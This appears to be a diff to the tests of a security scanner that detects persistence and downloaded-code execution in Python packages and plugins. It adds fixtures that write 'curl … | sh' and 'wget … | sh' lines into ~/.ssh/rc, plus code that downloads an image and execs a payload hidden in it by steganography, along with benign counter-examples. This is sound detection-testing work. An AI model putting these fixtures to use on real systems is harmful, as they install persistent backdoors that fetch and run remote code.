@@ -513,6 +513,17 @@ _COMMAND_PERSISTED = {
     with (Path.home() / ".profile").open("a") as fh:
         fh.write("wget -qO- http://198.51.100.24/p | bash\\n")
     """,
+    # blind17 (tune b17-ot-ssh-rc-persist): sshd runs ~/.ssh/rc at every login
+    "ssh-rc-join": """
+    import os
+    rc = os.path.join(os.path.expanduser("~"), ".ssh", "rc")
+    with open(rc, "a") as fh:
+        fh.write("(curl -fsSL https://t.example/k | sh >/dev/null 2>&1 &)\\n")
+    """,
+    "ssh-rc-pathlib": """
+    from pathlib import Path
+    (Path.home() / ".ssh" / "rc").write_text("wget -qO- http://198.51.100.26/r | sh &\\n")
+    """,
     "python-crontab": """
     from crontab import CronTab
     cron = CronTab(user=True)
@@ -542,6 +553,7 @@ def test_a_completion_line_or_a_local_cron_job_is_no_threat() -> None:
     # a completion installer's source line appended through Path.open, a backup job that
     # runs a local program, and a download kept as data by a cron job
     source = """
+    import os
     from pathlib import Path
     from crontab import CronTab
     for rc in (".bashrc", ".zshrc"):
@@ -551,6 +563,10 @@ def test_a_completion_line_or_a_local_cron_job_is_no_threat() -> None:
     cron.new(command="/usr/local/bin/backup --quiet", comment="backup").setall("0 3 * * *")
     cron.new(command="curl -s -o /var/tmp/feed.xml https://example.org/feed.xml")
     cron.write()
+    # ~/.ssh/rc setting up X11 forwarding, as sshd's manual shows (blind17)
+    with open(os.path.expanduser("~/.ssh/rc"), "w") as fh:
+        fh.write("if read proto cookie && [ -n \\"$DISPLAY\\" ]; then\\n"
+                 "  xauth -q add unix:0 $proto $cookie\\nfi\\n")
     """
     assert {r for r in anywhere(source) if r.startswith("CPL-THR")} == set()
 
@@ -636,3 +652,45 @@ def test_a_file_fetched_over_sftp_and_read_is_not_a_download_run() -> None:
         "print(open('db.sql').read()[:80])\n"
     )
     assert "CPL-THR-002" not in danger(source)
+
+
+# -- blind17: code a library reads out of a downloaded file (b17-np-judyb-lsb-reveal) ---------
+
+_READ_BY_A_LIBRARY = [
+    "import os, tempfile, urllib.request\nfrom judyb import lsb\n"
+    "p = os.path.join(tempfile.gettempdir(), 'palette.png')\n"
+    "urllib.request.urlretrieve('https://i.example/DEFANGED.png', p)\nexec(lsb.reveal(p))\n",
+    "import urllib.request\nfrom stegano import exifHeader\n"
+    "urllib.request.urlretrieve('https://cdn.example/a.jpg', filename='a.jpg')\n"
+    "exec(exifHeader.reveal('a.jpg'))\n",
+]
+
+
+@pytest.mark.parametrize("source", _READ_BY_A_LIBRARY)
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_code_a_library_reads_out_of_a_downloaded_file_is_downloaded_code(
+    source: str, mode: ScanMode
+) -> None:
+    found = scan_source(source, "mod.py", mode=mode)
+    assert "CPL-THR-002" in {f.rule_id for f in found if f.severity is Severity.DANGER}
+
+
+@pytest.mark.parametrize("source", _READ_BY_A_LIBRARY)
+def test_the_prefilter_keeps_code_read_out_of_a_downloaded_file(
+    source: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-002")
+
+
+def test_a_library_reading_a_file_no_download_wrote_is_no_threat() -> None:
+    # a downloaded data file read by a library, and exec of what other files hold
+    source = """
+    import json, urllib.request
+    import pandas as pd
+    urllib.request.urlretrieve("https://data.example.org/d.csv", "d.csv")
+    print(pd.read_csv("d.csv"))
+    exec(json.load(open("conf.json"))["snippet"])
+    exec(compile(open("setup_helpers.py").read(), "setup_helpers.py", "exec"))
+    exec(helpers.render("template.j2"))
+    """
+    assert {r for r in anywhere(source) if r.startswith("CPL-THR")} == set()
